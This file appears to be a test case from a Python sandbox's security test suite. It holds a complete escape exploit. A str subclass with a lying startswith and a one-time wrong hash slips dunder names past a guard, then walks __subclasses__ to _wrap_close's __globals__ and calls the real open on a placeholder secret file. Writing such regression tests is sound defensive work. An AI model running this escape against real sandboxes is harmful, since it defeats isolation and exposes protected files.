# category: builtins
# attack: getattr with a str subclass whose startswith lies: the guard judged the name by its own methods, the real getattr by its characters (__class__ ... __subclasses__ ... __globals__ to the real builtins)
# profile: basic
# run-layer: guard
class S(str):
    # A str whose startswith lies and whose hash is wrong once (beating
    # the frozenset of frame names), then right for the real lookup.
    def startswith(self, *a):
        return False

    def __hash__(self):
        self.k = getattr(self, "k", 0) + 1
        return 7 if self.k == 1 else super().__hash__()

base = getattr(getattr((), S("__class__")), S("__base__"))
for c in getattr(base, S("__subclasses__"))():
    if getattr(c, S("__name__")) == "_wrap_close":
        g = getattr(getattr(c, S("__init__")), S("__globals__"))
        print(g["__builtins__"]["open"]("@SECRET_FILE@").read())
